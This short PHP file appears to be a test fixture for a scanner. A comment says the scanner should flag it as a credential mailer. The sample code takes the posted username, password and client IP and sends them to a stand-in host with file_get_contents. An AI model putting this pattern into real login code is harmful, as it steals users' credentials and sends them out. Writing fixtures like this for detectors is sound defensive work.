<?php return; // want: suspicious credential_mailer php.send.secret
$t = 'login ' . $_POST['user'] . ' password ' . $_POST['password'] . ' from ' . $_SERVER['REMOTE_ADDR'];
file_get_contents('https://collect.example.net/?t=' . urlencode($t));
